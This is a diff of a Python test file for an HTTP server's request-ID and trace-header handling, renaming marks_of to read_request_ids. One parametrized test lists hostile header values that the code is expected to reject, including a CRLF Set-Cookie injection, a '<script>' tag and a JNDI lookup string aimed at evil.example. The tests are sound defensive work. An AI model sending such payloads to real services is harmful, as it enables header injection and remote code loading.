@@ -16,7 +16,7 @@ from opentelemetry.sdk.trace.export.in_memory_span_exporter import InMemorySpanE
 import longmind
 from longmind.server.http.header_reader import RequestHeaders
 from longmind.server.observability.logs import set_up_logs
-from longmind.server.observability.request_ids import marks_of
+from longmind.server.observability.request_ids import read_request_ids
 from longmind.server.observability.tracing import open_tracing
 from longmind.settings import load_settings
 from tests.server.asking import ask, bearer, lines
@@ -103,13 +103,13 @@ def test_a_line_of_text_stays_one_line() -> None:
     "sent", ["", "a b", "a\r\nSet-Cookie: x=1", "x" * 129, "é", "<script>", "a,b", "${jndi:ldap://evil.example}"]
 )
 def test_an_id_that_is_not_clean_is_replaced(sent: str) -> None:
-    made = marks_of(RequestHeaders(lines(x_request_id=sent)))
+    made = read_request_ids(RequestHeaders(lines(x_request_id=sent)))
 
     assert re.fullmatch("[0-9a-f]{32}", made.request_id)
 
 
 def test_an_id_that_is_sent_twice_is_replaced() -> None:
-    made = marks_of(RequestHeaders([*lines(x_request_id="one"), *lines(x_request_id="two")]))
+    made = read_request_ids(RequestHeaders([*lines(x_request_id="one"), *lines(x_request_id="two")]))
 
     assert re.fullmatch("[0-9a-f]{32}", made.request_id)
 
@@ -128,12 +128,12 @@ def test_an_id_that_is_sent_twice_is_replaced() -> None:
     ],
 )
 def test_a_trace_that_is_none_is_begun_anew(sent: str) -> None:
-    made = marks_of(RequestHeaders(lines(traceparent=sent)))
+    made = read_request_ids(RequestHeaders(lines(traceparent=sent)))
 
     assert made.parent_id is None
     assert re.fullmatch("[0-9a-f]{32}", made.trace_id)
     assert made.trace_id != TRACE
-    known = marks_of(RequestHeaders(lines(traceparent=f"00-{TRACE}-b7ad6b7169203331-00")))
+    known = read_request_ids(RequestHeaders(lines(traceparent=f"00-{TRACE}-b7ad6b7169203331-00")))
     assert (known.trace_id, known.parent_id, known.sampled) == (TRACE, "b7ad6b7169203331", False)
 
 
